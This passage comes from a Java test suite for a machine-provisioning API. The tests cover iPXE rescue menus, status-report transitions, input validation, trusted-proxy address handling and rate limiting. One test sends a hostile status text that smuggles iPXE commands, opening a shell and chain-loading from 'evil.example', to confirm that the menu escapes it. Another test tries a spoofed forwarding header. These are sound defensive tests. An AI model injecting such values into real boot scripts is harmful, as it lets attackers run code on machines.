                body.contains("\n:rescue\nset server_action " + id + "\nset status_url " + statusUrl()
                        + "\nchain --autofree http://boot.test.example/rescue.ipxe?mac=" + machine.mac()
                        + " || goto local\n"),
                body);
        assertTrue(body.endsWith("\n:local\nsanboot --no-describe --drive 0x80 || exit\n"), body);

        Api.Response unknown = menu(machine, "02:00:5e:00:00:01");
        assertScript(unknown);
        assertTrue(
                unknown.body().contains("\nchoose --default local --timeout 7000 selected || goto local\n"),
                unknown.body());
        assertFalse(unknown.body().contains("rescue"), unknown.body());
    }

    // --- status -----------------------------------------------------------------------------

    @Test
    void legalTransitionsAreRecordedWithTheirTime() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "INSTALL", "debian-12"));

        Api.Response running = report(machine, "RUNNING", "10", "Partitioning");
        assertEquals(200, running.status(), running.body());
        assertEquals(
                2032,
                running.envelope()
                        .getJsonObject("messages")
                        .getJsonArray("success")
                        .getJsonObject(0)
                        .getInt("code"));
        JsonObject progress = running.data().getJsonObject("action");
        assertEquals(
                Set.of("id", "action", "state", "state_percent", "state_text", "updated_at"),
                progress.keySet(),
                "the machine learns nothing of the account");
        assertEquals(id, id(progress));
        assertEquals("RUNNING", progress.getString("state"));
        assertEquals(10, progress.getInt("state_percent"));
        assertEquals(200, report(machine, "RUNNING", 60, "Installing packages").status());
        assertEquals(
                200, report(machine, "RUNNING", 60, "Still installing packages").status(), "the same percentage again");
        assertEquals(200, report(machine, "DONE", 100, "Installed").status());

        JsonObject shown = show(owner, id);
        assertEquals("DONE", shown.getString("state"));
        assertEquals(100, shown.getInt("state_percent"));
        assertEquals("Installed", shown.getString("state_text"));
        assertFalse(shown.isNull("finished_at"));
        List<JsonObject> history = shown.getJsonArray("reports").getValuesAs(JsonObject.class);
        assertEquals(
                List.of("RUNNING", "RUNNING", "RUNNING", "DONE"),
                history.stream().map(r -> r.getString("state")).toList());
        assertEquals(
                List.of(10, 60, 60, 100),
                history.stream().map(r -> r.getInt("state_percent")).toList());
        assertEquals("Partitioning", history.get(0).getString("state_text"));
        assertTrue(history.stream()
                .allMatch(r -> r.getString("reported_by").equals("MACHINE")
                        && r.getString("reported_at").matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}")));

        Machine cancelling = newMachine();
        long fromPending = id(create(owner, cancelling, "RESCUE", null));
        assertEquals(
                200,
                report(cancelling, "CANCELLED", 0, "Operator aborted at the console")
                        .status());
        assertEquals("CANCELLED", show(owner, fromPending).getString("state"));
        long fromRunning = id(create(owner, cancelling, "RESCUE", null));
        assertEquals(200, report(cancelling, "RUNNING", 30, "Up").status());
        assertEquals(200, report(cancelling, "CANCELLED", 30, "Aborted").status());
        assertEquals("CANCELLED", show(owner, fromRunning).getString("state"));
    }

    @Test
    void illegalTransitionsAre409AndChangeNothing() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "INSTALL", "debian-12"));
        assertError(report(machine, "PENDING", 0, "Waiting"), 409, 4093);
        assertError(report(machine, "DONE", 100, "Done already?"), 409, 4093);
        assertEquals(200, report(machine, "RUNNING", 50, "Halfway").status());
        assertError(report(machine, "PENDING", 50, "Back to the start"), 409, 4093);
        Api.Response fell = report(machine, "RUNNING", 49, "Going backwards");
        assertError(fell, 409, 4093);
        assertTrue(fell.body().contains("50"), fell.body());
        assertError(report(machine, "DONE", 20, "Done at less than reached"), 409, 4093);
        JsonObject shown = show(owner, id);
        assertEquals("RUNNING", shown.getString("state"));
        assertEquals(50, shown.getInt("state_percent"));
        assertEquals(1, shown.getJsonArray("reports").size(), "refused reports are not recorded");

        assertEquals(200, report(machine, "DONE", 100, "Finished").status());
        // DONE is final: the machine has no unfinished action left (404), and the owner cannot cancel it (409).
        assertError(report(machine, "RUNNING", 100, "Again"), 404, 4040);
        assertError(report(machine, "CANCELLED", 100, "Undo"), 404, 4040);
        assertError(owner.json("POST", ACTIONS + "/cancel", idBody(id)), 409, 4093);
        assertEquals("DONE", show(owner, id).getString("state"));
    }

    @Test
    void reportsAreValidated() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "RESCUE", null));
        Api.Response below = report(machine, "RUNNING", -1, "x");
        assertEquals(422, below.status(), below.body());
        assertEquals(List.of("state_percent"), below.errorFields());
        assertEquals(List.of(4223), below.errorCodes());
        assertEquals(
                List.of("state_percent"), report(machine, "RUNNING", 101, "x").errorFields());
        assertEquals(
                List.of("state_percent"),
                report(machine, "RUNNING", "half", "x").errorFields());
        assertEquals(List.of("state"), report(machine, "BOOTING", 5, "x").errorFields());
        Api.Response empty = report(machine, null, null, null);
        assertEquals(422, empty.status());
        assertEquals(Set.of("state", "state_percent", "state_text"), Set.copyOf(empty.errorFields()));
        assertEquals(
                List.of("state_text"), report(machine, "RUNNING", 5, "a\nb").errorFields(), "no control characters");
        assertEquals(0, show(owner, id).getJsonArray("reports").size());
        assertEquals(200, report(machine, "RUNNING", 0, "Zero").status());
        assertEquals(200, report(machine, "RUNNING", 100, "Hundred").status());
        // Form bodies, as a shell script on the machine would send with curl.
        Api.Response form = proxy().send(
                        "POST",
                        ACTIONS + "/status",
                        "application/x-www-form-urlencoded",
                        "state=DONE&state_percent=100&state_text=Done+via+curl",
                        Map.of("X-Forwarded-For", machine.ip()));
        assertEquals(200, form.status(), form.body());
        assertEquals("Done via curl", show(owner, id).getString("state_text"));
    }

    @Test
    void aReportFromAnotherAddressIsRefused() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "RESCUE", null));
        Machine stranger = newMachine();
        assertError(report(stranger, "RUNNING", 10, "Not mine"), 404, 4040);
        // The connection's own address (127.0.0.1, the proxy) has no action either.
        assertError(proxy().json("POST", ACTIONS + "/status", status("RUNNING", 10, "Proxy itself")), 404, 4040);
        assertEquals("PENDING", show(owner, id).getString("state"));
        assertEquals(0, show(owner, id).getJsonArray("reports").size());
    }

    @Test
    void onlyTheConfiguredProxyMayNameTheMachine() throws Exception {
        String hostIp = InetAddress.getByName(base.getHost()).getHostAddress();
        assertFalse(
                InetAddress.getByName(hostIp).isLoopbackAddress(),
                "the test needs the service reached at a non-loopback address; it is reached at " + base);
        Api owner = customer();
        Machine host = new Machine(newMachine().mac(), hostIp);
        Machine named = newMachine();
        long hostAction = id(create(owner, host, "RESCUE", null));
        long namedAction = id(create(owner, named, "RESCUE", null));
        try {
            // Straight from the machine's IP, which is not a trusted proxy: X-Forwarded-For is ignored,
            // and the report is the connection's own, matched by getRemoteAddr().
            Api.Response direct = Api.at(base)
                    .send(
                            "POST",
                            ACTIONS + "/status",
                            "application/json",
                            status("RUNNING", 10, "Direct").toString(),
                            Map.of("X-Forwarded-For", named.ip()));
            assertEquals(200, direct.status(), direct.body());
            assertEquals(hostAction, id(direct.data().getJsonObject("action")));
            assertEquals(
                    "PENDING",
                    show(owner, namedAction).getString("state"),
                    "not reported for the machine named in the header");

            // Through 127.0.0.1, the configured proxy: the header names the machine.
            Api.Response proxied = report(named, "RUNNING", 20, "Via the proxy");
            assertEquals(200, proxied.status(), proxied.body());
            assertEquals(namedAction, id(proxied.data().getJsonObject("action")));
            assertEquals(10, show(owner, hostAction).getInt("state_percent"));

            // The rightmost hop a trusted proxy appended counts, not what the client put before it.
            Api.Response spoofed = proxy().send(
                            "POST",
                            ACTIONS + "/status",
                            "application/json",
                            status("RUNNING", 30, "Spoofed").toString(),
                            Map.of(
                                    "X-Forwarded-For",
                                    named.ip() + ", " + newMachine().ip()));
            assertError(spoofed, 404, 4040);
            assertEquals(20, show(owner, namedAction).getInt("state_percent"));
            assertError(
                    proxy().send(
                                    "POST",
                                    ACTIONS + "/status",
                                    "application/json",
                                    status("RUNNING", 30, "x").toString(),
                                    Map.of("X-Forwarded-For", "unknown")),
                    400,
                    4002);
        } finally {
            owner.json("POST", ACTIONS + "/cancel", idBody(hostAction));
            owner.json("POST", ACTIONS + "/cancel", idBody(namedAction));
            // the host's own address is every run's: it leaves the inventory again
            Api.at(base).asOperator().json("POST", MACHINES + "/delete", idBody(machineId(owner, host)));
        }
    }

    @Test
    void aHostileStateTextIsStoredAsSentAndEscapedInTheMenu() throws Exception {
        Api owner = customer();
        Machine machine = newMachine();
        long id = id(create(owner, machine, "RESCUE", null));
        String hostile = "ok ${net0/mac} || shell ; chain http://evil.example/ #x && exit";
        assertEquals(200, report(machine, "RUNNING", 40, hostile).status());
        assertEquals(hostile, show(owner, id).getString("state_text"), "the owner sees what was sent");
        Api.Response menu = menu(machine, machine.ip());
        assertScript(menu);
        assertTrue(
                menu.body()
                        .contains(
                                "\nitem --gap Last report: ok __net0/mac_ __ shell _ chain http://evil.example/ _x __ exit\n"),
                menu.body());
    }

    @Test
    void thePublicEndpointsAreRateLimitedPerAddress() throws Exception {
        int limit = Integer.parseInt(System.getenv("SERVER_ACTIONS_REQUESTS_PER_MINUTE"));
        Machine busy = newMachine();
        Machine calm = newMachine();
        for (int i = 0; i < limit; i++) {
            Api.Response allowed = i % 3 == 0
                    ? file(busy, busy.mac())
                    : i % 3 == 1 ? menu(busy, busy.mac()) : report(busy, "RUNNING", 1, "x");
            assertTrue(allowed.status() == 200 || allowed.status() == 404, "request " + i + ": " + allowed);
        }
        for (Api.Response refused :
                List.of(file(busy, busy.mac()), menu(busy, busy.ip()), report(busy, "RUNNING", 1, "x"))) {
            assertError(refused, 429, 4290);
            long retryAfter = Long.parseLong(refused.header("Retry-After"));
            assertTrue(retryAfter >= 1 && retryAfter <= 60, "Retry-After " + retryAfter);
        }
        assertScript(file(calm, calm.mac()));
    }
}
